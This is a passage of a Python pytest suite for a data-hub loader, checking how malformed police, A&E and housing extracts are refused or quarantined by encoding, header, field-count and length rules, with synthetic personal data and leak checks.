"""Bad input in partner extracts (RELIABILITY.md section 1, IN-01 .. IN-33).

Every test builds a tiny file in the format of a real contract (police_incidents: Windows-1252,
CRLF, dd/mm/yyyy; ae_attendances: UTF-8 with an optional BOM, ISO dates, an NHS number;
homelessness_applications: an Excel workbook), breaks it one way, loads it, and checks what
the loader did: the report's status and reason, the quarantined line, column and reason, that
the counts reconcile, and that nothing identifiable leaks into messages.

Files are written from a template row per feed (the header is the contract's columns in order).
A record is a list of field values; a ``str`` in a record list is a raw line written as is.
Delimited text is read by a fast Arrow reader and, when a file needs it (a quoted newline, a
byte that cannot be decoded), by an exact Python reader; tests that matter for both take
``which`` and add one multi-line record to force the exact one (the ``exact_reads`` fixture
shows which reader ran).

Every case here once found a fault in the loader, since fixed; the tests keep it fixed.
"""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import datetime as dt
import gzip
import io
import json
import re
import tempfile
import traceback
import zipfile
from collections.abc import Iterator, Sequence
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from joinedup.cli import app
from joinedup.exports import neutralise, write_csv, write_xlsx
from joinedup.feeds import quarantine, reader, rules
from joinedup.feeds.contract import Contract, contract_named
from joinedup.feeds.load import Delivery, connect_published, load_files, load_one
from joinedup.feeds.report import LoadReport
from joinedup.feeds.store import current

POLICE, AE, HOUSING = "police_incidents", "ae_attendances", "homelessness_applications"
FILE_NAMES = {
    POLICE: "police_incidents_2024-04.csv",
    AE: "ae_attendances_2024-03.csv",
    HOUSING: "housing_options_hclic_2024-q1.xlsx",
}
NEWLINE = {POLICE: "\r\n", AE: "\n"}
FREE_TEXT = {POLICE: "Summary", AE: "CHIEF_COMPLAINT"}


def nhs_number(stem: str) -> str:
    """A valid NHS number from its first nine digits (modulus 11)."""
    total = sum(int(d) * w for d, w in zip(stem, range(10, 1, -1), strict=True))
    check = (11 - total % 11) % 11
    assert check != 10, stem
    return stem + str(check)


# The template rows: "{i}" in an id column is the record's number. The template's NHS number is
# valid but is not the canary's (9990000018), so a leak check for the canary means something.
TEMPLATES: dict[str, dict[str, object]] = {
    POLICE: {
        "Incident Ref": "LC-2024-{i:07d}",
        "Nominal ID": "N{i:08d}",
        "Surname": "HOLDEN",
        "Forename(s)": "Alex",
        "DOB": "14/03/1975",
        "Gender": "Male",
        "Address": "12 Market Street",
        "Postcode": "PR7 1DP",
        "Incident Date": "03/04/2024 10:30",
        "Incident Type": "ASB",
        "Role": "VICTIM",
        "Summary": "Report of youths causing nuisance near shops",
    },
    AE: {
        "ATTENDANCE_ID": "RXN-A{i:07d}",
        "LOCAL_PATIENT_ID": "RXN{i:07d}",
        "NHS_NUMBER": nhs_number("999000002"),
        "NHS_NUMBER_STATUS": "01",
        "PERSON_GIVEN_NAME": "Sam",
        "PERSON_FAMILY_NAME": "Taylor",
        "PERSON_BIRTH_DATE": "1980-05-17",
        "PERSON_STATED_GENDER_CODE": "1",
        "POSTCODE": "PR7 2QL",
        "ARRIVAL_DATETIME": "2024-03-04T09:15:00",
        "ARRIVAL_MODE": "WALKIN",
        "CHIEF_COMPLAINT": "Chest pain",
        "DISCHARGE_DESTINATION": "HOME",
    },
    HOUSING: {
        "Case Ref": "HC-{i:05d}",
        "Applicant Surname": "Jones",
        "Applicant Forename": "Kim",
        "DOB": dt.date(1975, 3, 14),
        "Gender": "F",
        "Last Settled Address": "2 Mill Lane",
        "Postcode": "PR7 3AA",
        "Application Date": dt.date(2024, 3, 4),
        "Reason for Loss of Home": "Domestic abuse",
        "Duty Owed": "Relief",
        "Support Needs": "",
    },
}
# Identifying values of the template rows, none of which may appear in a report's message.
IDENTIFIERS = {
    POLICE: ("HOLDEN", "Alex", "14/03/1975", "12 Market Street", "PR7 1DP"),
    AE: ("Taylor", "1980-05-17", "PR7 2QL", nhs_number("999000002")),
}


def contract(feed: str) -> Contract:
    return contract_named(feed)


def header(feed: str) -> list[str]:
    return [c.name for c in contract(feed).columns]


def record(feed: str, i: int, changes: dict[str, object] | None = None) -> list[object]:
    """Record number ``i`` of the template, in the contract's column order, with ``changes``."""
    values = dict(TEMPLATES[feed])
    for name, value in values.items():
        if isinstance(value, str) and "{i" in value:
            values[name] = value.format(i=i)
    for name in changes or {}:
        assert name in values, name
    values.update(changes or {})
    return [values[name] for name in header(feed)]


def records(feed: str, n: int, start: int = 1) -> list[list[object]]:
    return [record(feed, i) for i in range(start, start + n)]


def field(value: object, delimiter: str = ",") -> str:
    text = str(value)
    if any(c in text for c in (delimiter, '"', "\r", "\n")):
        return '"' + text.replace('"', '""') + '"'
    return text


def line(values: Sequence[object], delimiter: str = ",") -> str:
    return delimiter.join(field(v, delimiter) for v in values)


Rows = Sequence[Sequence[object] | str]


def text_of(
    feed: str, rows: Rows, head: Sequence[str] | str | None = None, newline: str | None = None
) -> str:
    """The file's text: the header, then each record (or raw line), each line ended."""
    newline = newline or NEWLINE[feed]
    first = head if isinstance(head, str) else line(header(feed) if head is None else head)
    lines = [first] + [r if isinstance(r, str) else line(r) for r in rows]
    return "".join(item + newline for item in lines)


def encode(feed: str, text: str, encoding: str | None = None) -> bytes:
    """Encoded per the contract. A lone surrogate "\\udcXX" in the text becomes the raw byte XX,
    which is how the tests plant bytes that cannot be decoded."""
    return text.encode(encoding or contract(feed).encoding, errors="surrogateescape")


def write(
    folder: Path,
    feed: str,
    rows: Rows,
    *,
    head: Sequence[str] | str | None = None,
    newline: str | None = None,
    bom: bool = False,
    encoding: str | None = None,
    name: str | None = None,
) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / (name or FILE_NAMES[feed])
    data = encode(feed, text_of(feed, rows, head, newline), encoding)
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + data)
    return path


def multi_line(feed: str, i: int) -> list[object]:
    """A good record whose free text holds a line break: the fast reader hands such files over
    to the exact one."""
    return record(feed, i, {FREE_TEXT[feed]: "First line" + NEWLINE[feed] + "second line"})


def with_reader(feed: str, rows: list[list[object] | str], which: str, i: int = 900) -> list:
    """``rows``, plus a multi-line record at the end if the exact reader is wanted."""
    return [*rows, multi_line(feed, i)] if which == "exact" else rows


def load(home: Path, feed: str, path: Path, contract_: Contract | None = None) -> LoadReport:
    """Load one file as ``feed`` (under a modified contract if given); the report reconciles."""
    if contract_ is None:
        report = load_one(home, feed, path)
    else:
        report = load_files(home, [Delivery(path, contract_)])[0]
    assert report.reconciles, report
    return report


# A police record's id is "Incident Ref:Nominal ID"; these tests name a row by its incident
# reference, so queries see record ids up to the colon.
_RECORD_TABLES = re.compile(
    r"\b(FROM|JOIN)\s+(identity_records|quarantine)\b"
    r"(?:\s+(?!WHERE\b|ORDER\b|GROUP\b|JOIN\b|USING\b|ON\b|LIMIT\b)([a-z]\w*))?"
)


def _by_incident(sql: str) -> str:
    def table(match: re.Match[str]) -> str:
        keyword, name, alias = match.group(1), match.group(2), match.group(3) or match.group(2)
        return f"{keyword} (SELECT * REPLACE (split_part(record_id, ':', 1) AS record_id) FROM {name}) AS {alias}"

    return _RECORD_TABLES.sub(table, sql)


def query(home: Path, sql: str, *parameters: object) -> list[tuple]:
    sql = _by_incident(sql)
    connection = connect_published(home)
    assert connection is not None, "nothing published"
    try:
        return connection.execute(sql, list(parameters)).fetchall()
    finally:
        connection.close()


def quarantined(home: Path) -> list[tuple[int, str, str]]:
    """(line, column, reason) of every quarantined row, by line."""
    return [
        (int(n), str(c), str(r))
        for n, c, r in query(
            home, "SELECT line, column_name, reason FROM quarantine ORDER BY line, reason"
        )
    ]


def stored(home: Path) -> dict[str, int]:
    """How many rows each table of both zones holds (absent tables are left out)."""
    connection = connect_published(home)
    if connection is None:
        return {}
    try:
        tables = connection.execute(
            "SELECT database_name, table_name FROM duckdb_tables() ORDER BY ALL"
        ).fetchall()
        return {
            (f"analytic.{table}" if db == "analytic" else table): int(
                connection.execute(f'SELECT count(*) FROM "{db}"."{table}"').fetchall()[0][0]
            )
            for db, table in tables
        }
    finally:
        connection.close()


def count(home: Path, table: str) -> int:
    """Rows in ``table`` of the published zones; 0 if nothing is published or no such table."""
    return stored(home).get(table, 0)


def assert_no_leak(text: str, *values: str) -> None:
    for value in values:
        assert value not in text, f"{value!r} leaked into {text!r}"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    return tmp_path / "hub"


@pytest.fixture
def inbox(tmp_path: Path) -> Path:
    return tmp_path / "inbox"


@pytest.fixture
def exact_reads(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Names of the files the exact reader was asked to read (proves which reader ran)."""
    used: list[str] = []
    original = reader.read_csv

    def spy(path: Path, contract_: Contract, head: list[str]) -> Iterator[reader.Batch]:
        used.append(path.name)
        return original(path, contract_, head)

    monkeypatch.setattr(reader, "read_csv", spy)
    return used


READERS = ("fast", "exact")


@pytest.mark.parametrize("feed", [POLICE, AE, HOUSING])
def test_the_templates_follow_the_contracts(feed: str) -> None:
    assert list(TEMPLATES[feed]) == header(feed)


# IN-01 ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("which", READERS)
def test_in_01_bom_is_not_part_of_the_first_header_name(
    home: Path, inbox: Path, which: str, exact_reads: list[str]
) -> None:
    path = write(inbox, AE, with_reader(AE, records(AE, 3), which), bom=True)
    report = load(home, AE, path)
    assert (report.status, report.read, report.loaded, report.quarantined) == (
        "loaded",
        4 if which == "exact" else 3,
        4 if which == "exact" else 3,
        0,
    )
    assert bool(exact_reads) == (which == "exact")
    # The first column (ATTENDANCE_ID, under the BOM) is the record id: read whole and clean.
    ids = {r for (r,) in query(home, "SELECT record_id FROM identity_records")}
    assert {"RXN-A0000001", "RXN-A0000002", "RXN-A0000003"} <= ids
    assert not any("\ufeff" in i or "ï»¿" in i for i in ids)


def test_in_01_utf8_bom_on_a_cp1252_feed_gets_one_outcome_from_both_readers(
    home: Path, inbox: Path
) -> None:
    outcomes = []
    for which in READERS:
        path = write(
            inbox / which, POLICE, with_reader(POLICE, records(POLICE, 2), which), bom=True
        )
        report = load(home / which, POLICE, path)
        outcomes.append((report.status, report.refusal_reason))
    assert outcomes[0] == outcomes[1]


# IN-02 ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("which", READERS)
def test_in_02_cp1252_pound_smart_quotes_and_accents_are_preserved_exactly(
    home: Path, inbox: Path, which: str, exact_reads: list[str]
) -> None:
    summary = "Owes £40 for “repairs” – says it’s ‘not fair’"
    rows = [
        record(POLICE, 1, {"Surname": "O’BRIEN", "Forename(s)": "Renée", "Summary": summary}),
        record(POLICE, 2, {"Surname": "NÚÑEZ", "Forename(s)": "Zoë"}),
    ]
    path = write(inbox, POLICE, with_reader(POLICE, rows, which))
    assert "’".encode("cp1252") in path.read_bytes()  # really Windows-1252 bytes (0x92)
    report = load(home, POLICE, path)
    assert bool(exact_reads) == (which == "exact")
    assert (report.status, report.quarantined) == ("loaded", 0)
    names = query(
        home,
        "SELECT record_id, family_name, given_name FROM identity_records ORDER BY record_id",
    )
    assert names[:2] == [
        ("LC-2024-0000001", "O’BRIEN", "Renée"),
        ("LC-2024-0000002", "NÚÑEZ", "Zoë"),
    ]
    summaries = {s for (s,) in query(home, "SELECT summary FROM analytic.feed_police_incidents")}
    assert summary in summaries


# IN-03 ------------------------------------------------------------------------------------------


def test_in_03_cp1252_file_in_a_utf8_feed_quarantines_undecodable_rows_without_replacement(
    home: Path, inbox: Path
) -> None:
    """A Windows-1252 export sent as the UTF-8 A&E feed, with one accented name in 150 rows
    (below the whole-file threshold, see the next tests): the row is quarantined as
    invalid_encoding in its column; no U+FFFD or escaped surrogate is written anywhere."""
    rows = records(AE, 150)
    rows[99] = record(AE, 100, {"PERSON_FAMILY_NAME": "Desirée", "CHIEF_COMPLAINT": "Fall – hip"})
    path = write(inbox, AE, rows, encoding="cp1252")
    assert b"Desir\xe9e" in path.read_bytes()
    report = load(home, AE, path)
    assert (report.status, report.read, report.loaded, report.quarantined) == (
        "loaded",
        150,
        149,
        1,
    )
    assert report.by_reason == {"invalid_encoding": 1}
    assert quarantined(home) == [(101, "PERSON_FAMILY_NAME", "invalid_encoding")]
    for table, columns in (
        ("identity_records", "given_name, family_name, address, record_id, postcode"),
        ("analytic.feed_ae_attendances", "chief_complaint"),
    ):
        for row in query(home, f"SELECT {columns} FROM {table}"):
            for value in row:
                assert value is None or not any(
                    ch == "\ufffd" or "\udc80" <= ch <= "\udcff" for ch in str(value)
                ), (table, row)
    assert query(home, "SELECT count(*) FROM identity_records WHERE family_name LIKE 'Desir%'") == [
        (0,)
    ]


def test_in_03_a_mostly_undecodable_file_is_refused_whole_with_the_byte_offset(
    home: Path, inbox: Path
) -> None:
    rows = [
        record(AE, i, {"PERSON_FAMILY_NAME": "Desirée" if i % 2 else "Taylor"})
        for i in range(1, 2 * reader.UNDECODABLE_FILE_ROWS + 1)
    ]
    path = write(inbox, AE, rows, encoding="cp1252")
    offset = path.read_bytes().index(b"\xe9")
    report = load(home, AE, path)
    assert (report.status, report.refusal_reason) == ("refused", "encoding")
    assert f"offset {offset}" in report.message
    assert (report.read, report.loaded, report.quarantined) == (0, 0, 0)
    assert count(home, "identity_records") == count(home, "quarantine") == 0
    assert_no_leak(report.message, "Desir", "Taylor", *IDENTIFIERS[AE])


@pytest.mark.parametrize(
    ("rows", "bad", "refused"),
    [
        (100, reader.UNDECODABLE_FILE_ROWS - 1, False),
        (100, reader.UNDECODABLE_FILE_ROWS, True),
        (2000, int(2000 * reader.UNDECODABLE_FILE_SHARE) - 1, False),
        (2000, int(2000 * reader.UNDECODABLE_FILE_SHARE), True),
    ],
)
def test_in_03_the_whole_file_threshold_at_its_boundary(
    home: Path, inbox: Path, rows: int, bad: int, refused: bool
) -> None:
    """A file is refused whole when at least max(UNDECODABLE_FILE_ROWS, UNDECODABLE_FILE_SHARE
    of its records) cannot be decoded; one row fewer and the rows are quarantined one by one."""
    content = [
        record(AE, i, {"PERSON_FAMILY_NAME": "Zo\udceb"} if i <= bad else None)
        for i in range(1, rows + 1)
    ]
    report = load(home, AE, write(inbox, AE, content))
    if refused:
        assert (report.status, report.refusal_reason) == ("refused", "encoding")
    else:
        assert report.status == "loaded"
        assert report.by_reason == {"invalid_encoding": bad}
        assert report.loaded == rows - bad


def test_in_03_an_undecodable_header_is_refused_with_the_byte_offset(
    home: Path, inbox: Path
) -> None:
    head = line(header(AE)).replace("CHIEF_COMPLAINT", "CHIEF_COMPLAINT_\udce9")
    path = write(inbox, AE, records(AE, 2), head=head)
    offset = path.read_bytes().index(b"\xe9")
    report = load(home, AE, path)
    assert (report.status, report.refusal_reason) == ("refused", "encoding")
    assert f"offset {offset}" in report.message
    assert report.read == report.loaded == report.quarantined == 0


# IN-04 ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("feed", [POLICE, AE])
@pytest.mark.parametrize(
    ("bom", "codec"), [(b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be")], ids=["LE", "BE"]
)
def test_in_04_utf16_unicode_text_export_is_refused_as_wrong_format(
    home: Path, inbox: Path, feed: str, bom: bytes, codec: str
) -> None:
    path = inbox / FILE_NAMES[feed]
    inbox.mkdir()
    path.write_bytes(bom + text_of(feed, records(feed, 3)).encode(codec))
    report = load(home, feed, path)
    assert (report.status, report.refusal_reason) == ("refused", "wrong_format")
    assert "UTF-16" in report.message
    assert count(home, "identity_records") == 0


def test_in_04_utf16_without_a_bom_is_refused_not_read_as_garbage(home: Path, inbox: Path) -> None:
    """Without a BOM the magic bytes do not show it: every header name then holds NUL bytes, so
    none of the contract's columns is found and the file is refused as missing_columns."""
    inbox.mkdir()
    path = inbox / FILE_NAMES[AE]
    path.write_bytes(text_of(AE, records(AE, 3)).encode("utf-16-le"))
    report = load(home, AE, path)
    assert (report.status, report.refusal_reason) == ("refused", "missing_columns")
    assert "\x00" not in report.message
    assert count(home, "identity_records") == 0
    assert count(home, "quarantine") == 0


# IN-05 ------------------------------------------------------------------------------------------


def test_in_05_invalid_utf8_and_nul_rows_are_quarantined_and_the_rest_loads(
    home: Path, inbox: Path, exact_reads: list[str]
) -> None:
    """Mixed encodings: one row's name is Windows-1252 (byte E9, invalid UTF-8), another row's
    name is proper UTF-8; a third row holds a NUL byte. 300 rows, so the undecodable share stays
    under reader.UNDECODABLE_FILE_SHARE and the damage is handled row by row."""
    rows = records(AE, 300)
    rows[9] = record(AE, 10, {"PERSON_FAMILY_NAME": "Zo\udceb"})  # line 11: cp1252 'ë'
    rows[19] = record(AE, 20, {"PERSON_FAMILY_NAME": "Zoë"})  # line 21: UTF-8 'ë'
    rows[29] = record(AE, 30, {"CHIEF_COMPLAINT": "Head\x00injury"})  # line 31
    rows[39] = record(AE, 40, {"PERSON_GIVEN_NAME": "\udcff\udcfe"})  # line 41: invalid bytes
    path = write(inbox, AE, rows)
    report = load(home, AE, path)
    assert exact_reads  # undecodable bytes: the exact reader read it
    assert (report.status, report.read, report.loaded, report.quarantined) == (
        "loaded",
        300,
        297,
        3,
    )
    assert report.by_reason == {"invalid_encoding": 2, "nul_byte": 1}
    assert quarantined(home) == [
        (11, "PERSON_FAMILY_NAME", "invalid_encoding"),
        (31, "CHIEF_COMPLAINT", "nul_byte"),
        (41, "PERSON_GIVEN_NAME", "invalid_encoding"),
    ]
    assert query(
        home, "SELECT family_name FROM identity_records WHERE record_id = 'RXN-A0000020'"
    ) == [("Zoë",)]


@pytest.mark.parametrize("which", READERS)
def test_in_05_nul_byte_is_quarantined_with_its_column_by_either_reader(
    home: Path, inbox: Path, which: str, exact_reads: list[str]
) -> None:
    rows = records(POLICE, 4)
    rows[2] = record(POLICE, 3, {"Address": "4 Church\x00 Road"})
    report = load(home, POLICE, write(inbox, POLICE, with_reader(POLICE, rows, which)))
    assert bool(exact_reads) == (which == "exact")
    assert report.by_reason == {"nul_byte": 1}
    assert quarantined(home) == [(4, "Address", "nul_byte")]
    assert report.loaded == report.read - 1


# IN-06 ------------------------------------------------------------------------------------------


def test_in_06_missing_required_columns_refuse_the_file_before_any_row_loads(
    home: Path, inbox: Path
) -> None:
    first = load(home, POLICE, write(inbox / "1", POLICE, records(POLICE, 2)))
    assert first.status == "loaded"
    before, version = stored(home), current(home)
    lacking = [c for c in header(POLICE) if c not in ("DOB", "Postcode")]
    rows = [
        [v for c, v in zip(header(POLICE), r, strict=True) if c in lacking]
        for r in [
            *records(POLICE, 3, start=10),
            record(POLICE, 13, {"Incident Date": "31/02/2024 10:00"}),  # would be quarantined
        ]
    ]
    report = load(home, POLICE, write(inbox / "2", POLICE, rows, head=lacking))
    assert (report.status, report.refusal_reason) == ("refused", "missing_columns")
    assert "DOB" in report.message and "Postcode" in report.message
    assert (report.read, report.loaded, report.quarantined) == (0, 0, 0)
    assert stored(home) == before  # no row, no quarantined row, no delivery
    assert current(home) == version
    assert_no_leak(report.message, *IDENTIFIERS[POLICE])


# IN-07 ------------------------------------------------------------------------------------------


def _with_ethnicity(feed: str, rows: list[list[object]]) -> tuple[list[str], list[list[object]]]:
    at = header(feed).index("Gender") + 1
    head = [*header(feed)[:at], "Ethnicity", *header(feed)[at:]]
    return head, [[*r[:at], "White: Gypsy or Irish Traveller", *r[at:]] for r in rows]


def test_in_07_column_outside_the_agreement_refuses_the_file_and_is_never_stored(
    home: Path, inbox: Path
) -> None:
    load(home, POLICE, write(inbox / "1", POLICE, records(POLICE, 2)))
    before = stored(home)
    head, rows = _with_ethnicity(POLICE, records(POLICE, 3, start=5))
    report = load(home, POLICE, write(inbox / "2", POLICE, rows, head=head))
    assert (report.status, report.refusal_reason) == ("refused", "unexpected_columns")
    assert "Ethnicity" in report.message
    assert stored(home) == before
    assert query(
        home,
        "SELECT count(*) FROM duckdb_columns() WHERE lower(column_name) LIKE '%ethnic%'",
    ) == [(0,)]
    assert query(home, "SELECT count(*) FROM quarantine WHERE raw LIKE '%Traveller%'") == [(0,)]


def test_in_07_column_outside_the_agreement_notifies_the_ig_lead(home: Path, inbox: Path) -> None:
    head, rows = _with_ethnicity(POLICE, records(POLICE, 2))
    report = load(home, POLICE, write(inbox, POLICE, rows, head=head))
    assert report.status == "refused"
    notices = home / "governance" / "notifications.jsonl"
    assert notices.exists()
    entries = [json.loads(n) for n in notices.read_text(encoding="utf-8").splitlines()]
    assert any("Ethnicity" in e.get("fields", []) for e in entries)
    assert "White" not in notices.read_text(encoding="utf-8")


# IN-08 ------------------------------------------------------------------------------------------


def _reordered(feed: str) -> list[int]:
    """A column order: the contract's, with the person's names swapped and the last two too."""
    order = list(range(len(header(feed))))
    a, b = header(feed).index("Surname"), header(feed).index("Forename(s)")
    order[a], order[b] = order[b], order[a]
    order[-1], order[-2] = order[-2], order[-1]
    return order


@pytest.mark.parametrize(
    ("change", "reason"),
    [("lower case", "missing_columns"), ("reordered", "column_order")],
)
def test_in_08_header_variations_are_refused_by_an_exact_contract(
    home: Path, inbox: Path, change: str, reason: str
) -> None:
    """Every packaged contract says header = "exact": the columns by these names, in this order.
    A header in another case finds none of its columns (missing_columns); the right names in
    another order are refused as column_order. (Spaces around a name and a UTF-8 BOM are the
    only differences an exact contract forgives: see the next test and IN-01.)"""
    rows: list[list[object]] = records(POLICE, 2)
    if change == "lower case":
        head = [h.lower() for h in header(POLICE)]
    else:
        order = _reordered(POLICE)
        head = [header(POLICE)[i] for i in order]
        rows = [[r[i] for i in order] for r in rows]
    report = load(home, POLICE, write(inbox, POLICE, rows, head=head))
    assert (report.status, report.refusal_reason) == ("refused", reason)
    assert count(home, "identity_records") == 0


def test_in_08_spaces_around_header_names_are_forgiven_by_an_exact_contract(
    home: Path, inbox: Path
) -> None:
    head = [f"  {h} " for h in header(POLICE)]
    report = load(home, POLICE, write(inbox, POLICE, records(POLICE, 2), head=head))
    assert (report.status, report.loaded) == ("loaded", 2)


@pytest.mark.parametrize("which", READERS)
def test_in_08_a_normalised_contract_maps_case_spaces_and_order(
    home: Path, inbox: Path, which: str
) -> None:
    """The same feed under header = "normalised": names matched ignoring case and spaces, in any
    order, and every value lands in its own column."""
    normalised = dataclasses.replace(contract(POLICE), header="normalised")
    order = _reordered(POLICE)
    head = [header(POLICE)[i].upper().replace(" ", "  ") for i in order]
    rows = with_reader(
        POLICE,
        [record(POLICE, 1, {"Surname": "OKAFOR", "Forename(s)": "Chidi", "Role": "WITNESS"})],
        which,
    )
    rows = [[r[i] for i in order] for r in rows]
    report = load(home, POLICE, write(inbox, POLICE, rows, head=head), normalised)
    assert (report.status, report.quarantined) == ("loaded", 0)
    assert query(
        home,
        "SELECT family_name, given_name FROM identity_records WHERE record_id = 'LC-2024-0000001'",
    ) == [("OKAFOR", "Chidi")]
    assert query(
        home,
        "SELECT a.role, a.summary FROM analytic.feed_police_incidents a JOIN identity_records i "
        "USING (record_key) WHERE i.record_id = 'LC-2024-0000001'",
    ) == [("WITNESS", TEMPLATES[POLICE]["Summary"])]


# IN-09 ------------------------------------------------------------------------------------------


def test_in_09_duplicate_header_names_refuse_the_file(home: Path, inbox: Path) -> None:
    head = header(POLICE)
    head[head.index("Forename(s)")] = "Surname"
    report = load(home, POLICE, write(inbox, POLICE, records(POLICE, 2), head=head))
    assert (report.status, report.refusal_reason) == ("refused", "duplicate_columns")
    assert "Surname" in report.message
    assert_no_leak(report.message, *IDENTIFIERS[POLICE])


def test_in_09_a_file_without_a_header_is_refused_without_quoting_its_first_row(
    home: Path, inbox: Path
) -> None:
    rows = records(POLICE, 3)
    report = load(home, POLICE, write(inbox, POLICE, rows[1:], head=line(rows[0])))
    assert (report.status, report.refusal_reason) == ("refused", "missing_columns")
    assert "Incident Ref" in report.message
    assert_no_leak(report.message, *IDENTIFIERS[POLICE], "LC-2024-0000001", "N00000001")


@pytest.mark.parametrize(
    "which",
    READERS,
)
def test_in_09_header_repeated_mid_file_is_quarantined_as_repeated_header(
    home: Path, inbox: Path, which: str, exact_reads: list[str]
) -> None:
    rows: list = records(POLICE, 4)
    rows.insert(2, line(header(POLICE)))  # line 4: the header again (two files concatenated)
    report = load(home, POLICE, write(inbox, POLICE, with_reader(POLICE, rows, which)))
    assert bool(exact_reads) == (which == "exact")
    assert report.status == "loaded"
    assert quarantined(home) == [(4, "*", "repeated_header")]
    assert report.loaded == report.read - 1


# IN-10 ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("which", READERS)
def test_in_10_too_many_and_too_few_fields_are_quarantined_at_their_lines(
    home: Path, inbox: Path, which: str, exact_reads: list[str]
) -> None:
    rows: list = records(POLICE, 6)
    rows[1] = line([*rows[1], "extra"])  # line 3
    rows[3] = line(rows[3][:-1])  # line 5
    rows[4] = line([*rows[4], ""])  # line 6: a trailing delimiter
    report = load(home, POLICE, write(inbox, POLICE, with_reader(POLICE, rows, which)))
    assert bool(exact_reads) == (which == "exact")
    assert quarantined(home) == [
        (3, "*", "wrong_field_count"),
        (5, "*", "wrong_field_count"),
        (6, "*", "wrong_field_count"),
    ]
    assert report.by_reason == {"wrong_field_count": 3}
    assert report.loaded == report.read - 3


def test_in_10_trailing_delimiter_on_every_line_refuses_the_file(home: Path, inbox: Path) -> None:
    """A trailing delimiter on the header too makes an unnamed extra column: the file is refused
    as unexpected_columns (the header check does not guess it is harmless)."""
    rows = [line([*r, ""]) for r in records(POLICE, 2)]
    report = load(home, POLICE, write(inbox, POLICE, rows, head=line([*header(POLICE), ""])))
    assert (report.status, report.refusal_reason) == ("refused", "unexpected_columns")


@pytest.mark.parametrize("feed", [POLICE, AE])
def test_in_10_quoted_newline_loads_and_later_rows_keep_their_physical_lines(
    home: Path, inbox: Path, feed: str
) -> None:
    text = 'Found at home.\r\nTaken to hospital; "stable"'
    rows: list = records(feed, 5)
    rows[1] = record(feed, 2, {FREE_TEXT[feed]: text})  # lines 3 and 4
    date_column = "DOB" if feed == POLICE else "PERSON_BIRTH_DATE"
    rows[3] = record(feed, 4, {date_column: "31/02/2024" if feed == POLICE else "2024-02-31"})
    rows[4] = line([*rows[4], "x"])  # line 7
    report = load(home, feed, write(inbox, feed, rows))
    assert quarantined(home) == [(6, date_column, "invalid_date"), (7, "*", "wrong_field_count")]
    assert (report.read, report.loaded) == (5, 3)
    column = FREE_TEXT[feed].lower()
    assert query(
        home, f"SELECT {column} FROM analytic.feed_{feed} WHERE {column} LIKE 'Found%'"
    ) == [(text,)]


@pytest.mark.parametrize("feed", [POLICE, AE])
@pytest.mark.parametrize("newline", ["\r\n", "\n"], ids=["CRLF", "LF"])
def test_in_10_crlf_and_lf_files_load_alike(
    home: Path, inbox: Path, feed: str, newline: str
) -> None:
    rows: list = records(feed, 3)
    rows[1] = record(feed, 2, {FREE_TEXT[feed]: f"one{newline}two"})
    report = load(home, feed, write(inbox, feed, rows, newline=newline))
    assert (report.status, report.read, report.loaded, report.quarantined) == ("loaded", 3, 3, 0)
    column = FREE_TEXT[feed].lower()
    assert query(home, f"SELECT {column} FROM analytic.feed_{feed} WHERE {column} LIKE 'one%'") == [
        (f"one{newline}two",)
    ]


def test_in_10_blank_lines_are_not_records(home: Path, inbox: Path) -> None:
    rows: list = records(POLICE, 3)
    rows[1:1] = ["", ""]
    report = load(home, POLICE, write(inbox, POLICE, rows))
    assert (report.read, report.loaded, report.quarantined) == (3, 3, 0)


def test_in_10_unterminated_quote_is_quarantined_and_swallows_no_rows(
    home: Path, inbox: Path
) -> None:
    rows: list = records(POLICE, 4)
    rows[1] = line(rows[1][:-1]) + ',"Caller says'  # line 3: the quote never closes
    report = load(home, POLICE, write(inbox, POLICE, rows))
    assert report.quarantined >= 1
    summaries = query(home, "SELECT summary FROM analytic.feed_police_incidents")
    assert not any("LC-2024-" in (s or "") for (s,) in summaries)


def test_in_10_a_line_of_empty_fields_is_handled_alike_by_both_readers(
    home: Path, inbox: Path
) -> None:
    outcomes = []
    for which in READERS:
        rows: list = records(POLICE, 3)
        rows.insert(1, "," * (len(header(POLICE)) - 1))  # line 3: twelve empty fields
        report = load(
            home / which, POLICE, write(inbox / which, POLICE, with_reader(POLICE, rows, which))
        )
        extra = 1 if which == "exact" else 0
        outcomes.append((report.read - extra, report.by_reason, quarantined(home / which)))
    assert outcomes[0] == outcomes[1]


@pytest.mark.parametrize("which", READERS)
def test_in_28_an_over_long_field_is_quarantined_by_both_readers(
    home: Path, inbox: Path, which: str, exact_reads: list[str]
) -> None:
    rows: list = records(POLICE, 4)
    rows[1] = record(POLICE, 2, {"Summary": "x" * (rules.MAX_FIELD_CHARACTERS + 1)})
    rows[2] = record(POLICE, 3, {"Summary": "y" * rules.MAX_FIELD_CHARACTERS})  # at the limit
    report = load(home, POLICE, write(inbox, POLICE, with_reader(POLICE, rows, which)))
    assert bool(exact_reads) == (which == "exact")
    assert report.by_reason == {"field_too_long": 1}
    assert quarantined(home) == [(3, "Summary", "field_too_long")]
    assert report.loaded == report.read - 1


def test_in_10_unterminated_quote_before_a_long_tail_is_quarantined_as_too_long(
    home: Path, inbox: Path
) -> None:
    """When the swallowed tail is longer than rules.MAX_FIELD_CHARACTERS, the broken record is
    quarantined (field_too_long) and nothing after it loads as part of another row."""
    rows: list = records(POLICE, 2)
    rows[1] = line(rows[1][:-1]) + ',"Caller says'  # line 3: the quote never closes
    rows += records(POLICE, 1 + rules.MAX_FIELD_CHARACTERS // 100, start=3)
    report = load(home, POLICE, write(inbox, POLICE, rows))
    assert quarantined(home) == [(3, "Summary", "field_too_long")]
    assert (report.read, report.loaded) == (2, 1)
    assert query(home, "SELECT record_id FROM identity_records") == [("LC-2024-0000001",)]


# IN-11 ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("feed", "column", "value"),
    [
        (POLICE, "DOB", "31/02/2024"),
        (POLICE, "DOB", "00/00/0000"),
        (POLICE, "DOB", "29/02/2023"),
